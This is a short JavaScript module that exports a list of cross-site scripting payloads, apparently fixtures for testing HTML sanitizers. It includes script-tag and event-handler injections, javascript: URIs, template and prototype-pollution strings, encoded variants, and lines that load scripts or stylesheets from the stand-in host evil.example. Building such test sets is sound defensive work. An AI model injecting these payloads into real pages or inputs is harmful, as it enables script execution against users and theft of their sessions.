// Text that would run, or turn the page upside down, where text is taken for markup.

const TAGS = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'input', 'details', 'object', 'marquee'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];
const CALL = 'alert(1)';

const WRITTEN = [
  `<script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</p></li></ol><script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext></p><img src=x onerror=${CALL}></mtext></math>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action=javascript:${CALL}><button>x</button></form>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `https://x.example/"onmouseover="${CALL}`,
  `https://x.example/'><script>${CALL}</script>`,
  `https://x.example/?q=<img src=x onerror=${CALL}>`,
  `https://javascript:${CALL}@x.example`,
  `[x](javascript:${CALL})`,
  `![x](https://evil.example/x.png)`,
  `{{constructor.constructor('${CALL}')()}}`,
  '${alert(1)}',
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"}}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><x onload="${CALL}"/>`,
  `x\u2028${CALL}\u2029x`,
  `\u0130mg src=x onerror=${CALL}`,
  `＜script＞${CALL}＜/script＞`,
  `<xss style="x:expression(${CALL})">`,
  `<div style="background:url(javascript:${CALL})">`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<button popovertarget=x onclick=${CALL}>x</button><div popover id=x onbeforetoggle=${CALL}>x</div>`,
];

const MADE = TAGS.flatMap((tag) =>
  HANDLERS.flatMap((handler) => [
    `<${tag} src=x ${handler}=${CALL}>`,
    `"><${tag}/src=x/${handler}="${CALL}" autofocus open>`,
  ]),
);

export const PAYLOADS = [...WRITTEN, ...MADE];
